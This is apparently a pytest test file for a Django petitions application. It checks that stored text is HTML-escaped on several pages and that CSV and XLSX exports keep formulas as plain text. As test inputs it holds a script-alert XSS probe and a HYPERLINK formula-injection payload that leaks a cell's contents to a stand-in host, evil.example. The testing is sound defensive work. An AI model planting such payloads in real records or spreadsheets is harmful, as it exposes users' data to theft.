"""Stored text never becomes HTML on a page nor a formula in a spreadsheet."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from petitions import services as petitions
from petitions.models import Petition
from reports import services as reports

SCRIPT = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.fixture
def hostile(users, units):
    petition = petitions.submit_petition(
        actor=users["leader_a"], unit=units["a1"], title=f"{SCRIPT} {FORMULA}", content=FORMULA
    )
    Petition.objects.filter(pk=petition.pk).update(is_published=True)
    return petition


@pytest.mark.parametrize(
    ("name", "args"),
    [
        ("petitions:detail", lambda p: [p.pk]),
        ("petitions:list", lambda p: []),
        ("public:outcomes", lambda p: []),
        ("admin:petitions_petition_changelist", lambda p: []),
        ("admin:petitions_petition_change", lambda p: [p.pk]),
    ],
)
def test_stored_script_renders_as_text(client_for, hostile, name, args):
    page = client_for("admin").get(reverse(name, args=args(hostile))).content.decode()

    assert (SCRIPT in page, "&lt;script&gt;alert(1)&lt;/script&gt;" in page) == (False, True)


def _export(user, file_format) -> bytes:
    job = reports.request_export(user=user, kind="petitions", file_format=file_format, parameters={})
    job = reports.run_export(job_id=job.pk)
    with job.file.open("rb") as handle:
        return handle.read()


def test_formula_stays_text_in_the_csv_export(users, hostile):
    rows = list(csv.reader(io.StringIO(_export(users["staff"], "csv").decode("utf-8-sig"))))

    cells = [cell for row in rows for cell in row if "HYPERLINK" in cell]

    assert cells != []
    assert [cell for cell in cells if cell.startswith("=")] == []


def test_formula_stays_text_in_the_xlsx_export(users, hostile):
    sheet = load_workbook(io.BytesIO(_export(users["staff"], "xlsx"))).active

    cells = [cell for row in sheet.iter_rows() for cell in row if "HYPERLINK" in str(cell.value)]

    assert cells != []
    assert [(cell.data_type, str(cell.value)[:1]) for cell in cells if cell.data_type != "s"] == []
